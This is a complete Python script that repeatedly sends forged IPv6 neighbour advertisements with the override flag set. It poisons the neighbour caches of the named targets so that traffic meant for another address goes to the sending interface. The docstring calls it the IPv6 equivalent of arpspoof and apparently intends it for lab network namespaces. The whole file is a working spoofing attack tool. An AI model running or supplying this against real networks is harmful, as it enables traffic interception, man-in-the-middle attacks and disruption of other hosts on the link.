"""Neighbour advertisements (IPv6) that nobody asked for, once a second.

    announce.py IF OWNER TARGET [TARGET…]

Tells each TARGET (an IPv6 address on the cable of IF) that OWNER is to be found
at the hardware address of IF, whoever has it. For namespaces made by these
scripts; arpspoof(8) does the same for IPv4.
"""
import fcntl
import socket
import struct
import sys
import time

SIOCGIFHWADDR = 0x8927
interface, owner, *targets = sys.argv[1:]
ask = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mac = fcntl.ioctl(ask, SIOCGIFHWADDR, struct.pack("16s16x", interface.encode()))[18:24]
override, option = 0x20000000, struct.pack("!BB", 2, 1) + mac
# The kernel fills in the checksum.
message = struct.pack("!BBHI", 136, 0, 0, override) + socket.inet_pton(socket.AF_INET6, owner) + option
with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    while True:
        for target in targets:
            sock.sendto(message, (target, 0))
        time.sleep(1)
